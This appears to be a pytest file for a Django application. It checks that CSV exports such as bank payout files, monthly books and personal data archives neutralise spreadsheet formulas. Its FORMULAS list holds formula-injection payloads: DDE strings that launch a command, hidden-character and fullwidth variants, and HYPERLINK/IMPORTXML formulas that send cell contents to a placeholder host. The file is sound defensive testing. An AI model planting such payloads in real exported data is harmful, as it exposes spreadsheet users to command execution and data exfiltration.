"""Every table that can be downloaded, opened by a spreadsheet: no cell of it is a formula, whoever wrote it."""

import csv
import io
import re
import zipfile
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse

from diwan.gathering import public as gathering
from diwan.kernel import clock
from diwan.kernel.text.csv_cells import safe_text
from diwan.payouts import public as payouts
from diwan.people.public import Person
from diwan.trust import public as trust

from .filling import reading_client
from .small_world import World

FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200f=HYPERLINK(\"https://canary.invalid\")", "\ufeff=1+1",
    "\u2067=1+1\u2069", "\u202e=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1;=2+2", '"=1+1', "|calc",
    "=IMPORTXML(CONCAT(\"https://canary.invalid/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
# What stands before a formula and is not seen, or is dropped when the cell is read.
_UNSEEN = re.compile("^[\\s\\u00a0\\u200e\\u200f\\u061c\\u202a-\\u202e\\u2066-\\u2069\\ufeff\\0]+")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def formulas(text: str) -> list[str]:
    """The cells that a spreadsheet would calculate. A number below zero is no formula."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    cells = [cell for row in rows for cell in row]
    return [cell for cell in cells if begins(_UNSEEN.sub("", cell)) or begins(cell)]


def begins(cell: str) -> bool:
    return cell.startswith(tuple("=+-@\t\r\n＝＋－＠")) and not _NUMBER.fullmatch(cell)


def tables(answer: Any) -> list[str]:
    """Every CSV in an answer, those inside an archive too."""
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    if answer.headers["Content-Type"].startswith("text/csv"):
        return [content.decode()]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(name).decode() for name in archive.namelist() if name.endswith(".csv")]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_guard_of_one_cell_is_seen_by_this_test_too(formula: str) -> None:
    assert formulas(f'"{formula.replace(chr(34), chr(34) * 2)}"') or formula[0] in '"|'
    assert not begins(safe_text(formula))


def test_a_bank_file_is_text_whatever_the_payee_is_called(world: World, db: None) -> None:
    place = world.garden
    by = place.member("owner").party_id
    batch = payouts.get_batch(batch_id=place["batch"], viewer=by)
    payouts.approve_batch(batch_id=batch.id, batch_hash=batch.hash, by=by, at=clock.now())
    owner = reading_client(world, place, "owner")
    for formula in FORMULAS:
        Person.objects.filter(pk=place.member("layla").person.pk).update(display_name=formula)
        texts = tables(owner.post(reverse("batch_file", args=["garden", batch.id, "bank-csv"])))
        assert [formulas(text) for text in texts] == [[]], formula
        assert formula.strip()[1:4] in texts[0], formula


def test_the_books_of_a_month_are_numbers_and_names_that_do_nothing(world: World, db: None) -> None:
    place = world.garden
    for reader in ("owner", "visitor"):
        client = reading_client(world, place, reader)
        lines = client.get(reverse("books_csv", args=["garden", place["period"]]))
        assert [formulas(text) for text in tables(lines)] == [[]]
        bundle = tables(client.get(reverse("books_bundle", args=["garden", place["period"]])))
        assert {cell for text in bundle for cell in formulas(text)} == set()


def test_a_copy_of_ones_data_is_text_whatever_one_wrote(world: World, db: None, settings: Any, tmp_path: Any) -> None:
    place = world.garden
    nour = place.member("nour")
    for formula in FORMULAS:
        if formula.strip("\u200f\u2067\u202e\ufeff \u00a0\t\r\n"):
            gathering.write_comment(post_id=place["post"], author_id=nour.pk, body=formula, at=clock.now())
    Person.objects.filter(pk=nour.person.pk).update(display_name=FORMULAS[0], bio=FORMULAS[4])
    kept = trust.export_person(person_id=nour.person.pk, at=clock.now())
    with default_storage.open(kept.file) as file, zipfile.ZipFile(file) as zipped:
        texts = [zipped.read(name).decode() for name in zipped.namelist() if name.endswith(".csv")]
    assert len(texts) > 5
    assert any("calc" in text for text in texts)
    assert {cell for text in texts for cell in formulas(text)} == set()
